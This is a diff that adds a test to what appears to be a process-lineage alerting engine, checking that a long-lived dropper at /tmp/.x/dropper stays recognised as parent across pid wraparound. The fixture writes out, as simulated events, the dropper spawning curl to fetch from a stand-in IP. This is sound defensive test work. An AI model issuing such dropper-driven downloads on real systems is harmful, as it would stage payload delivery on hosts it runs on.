@@ -67,6 +67,48 @@ describe("a parent record of an earlier holder of the pid", () => {
   });
 });
 
+describe("a parent that keeps forking while the allocator comes round", () => {
+  // The dropper at pid 5000 stays alive: every 2 s it forks `id` while the host's other processes take the
+  // pid space round past 5000. The kernel skips a pid in use: its record is still its own, and its curl alerts.
+  it("is still the parent: its children showed it alive when the allocator passed its pid", async () => {
+    const start = T0 + 1_000;
+    const aroundAndBack = [...traffic(5010, 32_700, start), ...traffic(305, 9000, start + 80_000)].map(
+      (event, i) =>
+        i % 100 === 0
+          ? { ...event, process: { ...event.process, ppid: 5000, executable: "/usr/bin/id" } }
+          : event,
+    );
+    const last = aroundAndBack.at(-1)!.time;
+    const events = [
+      ...traffic(4001, 4990, T0 - MIN),
+      exec({
+        pid: 5000,
+        ppid: 4000,
+        exe: "/tmp/.x/dropper",
+        args: ["/tmp/.x/dropper"],
+        time: T0,
+        session: UNSET,
+      }),
+      ...aroundAndBack,
+      exec({
+        pid: 9010,
+        ppid: 5000,
+        exe: "/usr/bin/curl",
+        args: ["curl", "-s", "https://203.0.113.7/x"],
+        time: last + 500,
+        session: UNSET,
+      }),
+    ];
+    // In batches of 500, as a replay or a function runs them: the dropper's record comes from the store.
+    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
+    const pids = new PidAllocations();
+    const alerts = [];
+    for (let i = 0; i < events.length; i += 500)
+      alerts.push(...(await processBatch(events.slice(i, i + 500), { ...deps, pids }, newCounters())));
+    expect(alerts.map((a) => [a.process.pid, a.location.path])).toEqual([[9010, "/tmp/.x/dropper"]]);
+  });
+});
+
 describe("a parent with no session for a child with one", () => {
   // A cron job: cron forks a child (no exec), PAM opens session 55 on it, the child runs `sh -c`. Its pid last
   // ran a script from /tmp, long gone.
